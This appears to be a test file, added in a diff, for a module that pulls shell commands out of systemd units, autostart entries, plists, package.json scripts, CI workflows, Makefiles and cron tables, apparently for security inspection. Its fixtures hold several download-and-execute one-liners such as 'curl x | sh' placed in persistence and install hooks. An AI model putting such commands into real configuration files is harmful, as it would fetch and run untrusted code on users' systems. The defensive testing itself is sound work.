@@ -1,0 +1,42 @@
+"""Command lines inside files other programs run (sidecar/effects/written_code.py)."""
+
+from __future__ import annotations
+
+from sidecar.effects.written_code import commands_in, cron_commands
+
+
+def test_service_units_desktop_entries_and_plists() -> None:
+    unit = "[Service]\nExecStartPre=-/bin/true\nExecStart=/bin/sh -c 'curl x | sh'\n"
+    assert commands_in("/etc/systemd/system/a.service", unit) == [
+        "/bin/true",
+        "/bin/sh -c 'curl x | sh'",
+    ]
+    desktop = '[Desktop Entry]\nExec=sh -c "wget -qO- x | sh" %u\n'
+    assert commands_in("~/.config/autostart/a.desktop", desktop) == ['sh -c "wget -qO- x | sh"']
+    plist = (
+        "<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string>"
+        "<string>-c</string><string>curl x | sh</string></array></dict></plist>"
+    )
+    assert commands_in("~/Library/LaunchAgents/a.plist", plist) == ["/bin/sh -c 'curl x | sh'"]
+
+
+def test_package_scripts_even_in_a_fragment() -> None:
+    fragment = '"scripts": {\n  "postinstall": "curl -s https://x.example/p.sh | sh",'
+    assert commands_in("package.json", fragment) == ["curl -s https://x.example/p.sh | sh"]
+
+
+def test_workflows_and_makefiles() -> None:
+    workflow = "jobs:\n  a:\n    steps:\n      - run: make test\n      - run: |\n          echo a\n          curl x | sh\n"
+    assert commands_in(".github/workflows/ci.yml", workflow) == ["make test", "echo a\ncurl x | sh"]
+    assert commands_in("Makefile", "all:\n\t@echo hi\n\tcurl x | sh\n") == [
+        "echo hi",
+        "curl x | sh",
+    ]
+
+
+def test_cron_tables() -> None:
+    assert cron_commands("# c\nMAILTO=x\n*/5 * * * * curl x | sh\n@reboot /opt/run\n") == [
+        "curl x | sh",
+        "/opt/run",
+    ]
+    assert commands_in("/etc/cron.d/job", "* * * * * root /usr/bin/backup\n") == ["/usr/bin/backup"]
